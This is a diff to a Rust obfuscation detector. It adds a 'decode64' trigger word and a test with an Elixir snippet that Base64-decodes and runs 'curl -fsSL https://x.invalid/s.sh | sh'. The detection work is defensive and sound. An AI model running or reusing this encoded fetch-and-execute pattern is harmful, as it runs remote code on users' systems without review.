@@ -296,6 +296,8 @@ const TRIGGER_WORDS: &[(&str, Trigger)] = &[
     ("powershell", Trigger::Base64),
     ("pwsh", Trigger::Base64),
     ("decodebytes", Trigger::Base64),
+    // Elixir's `Base.decode64!`, Ruby's `Base64.decode64`.
+    ("decode64", Trigger::Base64),
     ("&#", Trigger::Entities),
     ("fromhex", Trigger::Hex),
     ("unhexlify", Trigger::Hex),
@@ -1684,6 +1686,13 @@ mod tests {
         let b64 = encode_base64(&utf16);
         let d = run(&format!("powershell -EncodedCommand {b64}\n"));
         assert!(d.iter().any(|d| d.text == "Write-Host hello" && d.kinds & UTF16 != 0), "{d:?}");
+    }
+
+    #[test]
+    fn elixir_base_decode64_literals_are_decoded() {
+        let b64 = crate::test_support::encode_base64(b"curl -fsSL https://x.invalid/s.sh | sh");
+        let ex = format!("line =\n  \"{b64}\"\n  |> Base.decode64!()\nSystem.cmd(\"sh\", [\"-c\", line])\n");
+        assert!(texts(&ex).contains(&"curl -fsSL https://x.invalid/s.sh | sh".to_owned()), "{:?}", texts(&ex));
     }
 
     #[test]
